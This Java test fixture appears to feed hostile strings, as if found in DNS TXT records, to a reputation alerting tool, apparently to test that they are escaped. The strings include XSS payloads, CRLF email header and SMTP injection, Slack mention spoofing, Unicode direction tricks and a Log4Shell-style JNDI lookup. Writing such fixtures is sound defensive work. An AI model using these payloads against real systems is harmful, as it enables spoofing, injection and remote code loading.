package dev.repwatch.alerts;

import java.util.stream.Stream;

/** What strangers write into the TXT records of lists. */
public final class HostileTexts {

    private HostileTexts() {}

    public static Stream<String> all() {
        return Stream.of(
                "<!channel> look",
                "<!here|now> <@U012AB3CD> <#C012AB3CD>",
                "<https://evil.example.test|click>",
                "https://evil.example.test/login [click](https://evil.example.test) **bold**",
                "*bold* _it_ ~gone~ `code` ```block``` :fire: > quote",
                "``` <!channel> ```",
                "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><a href=javascript:alert(1)>x</a>",
                "spam\r\nBcc: victim@example.test\r\n\r\nbody",
                "line one\rSubject: faked\nX-Header: y",
                "瘍Bcc: victim@example.test瘊x",
                "\u202Egnp.exe\u202C \u2066isolate\u2069 \u200Bzero\u200Dwidth\uFEFF",
                "\u001b[31mred\u001b[0m \u0007 \u0000 nul",
                "lone \uD800 surrogate",
                "&amp; &lt;b&gt; %0d%0a ${jndi:ldap://x} {{7*7}} #{1}",
                "\n.\r\n.\r\nMAIL FROM:<x@example.test>",
                "x".repeat(60 * 1024),
                "<!channel> ".repeat(6 * 1024),
                "\n".repeat(60 * 1024) + "end");
    }
}
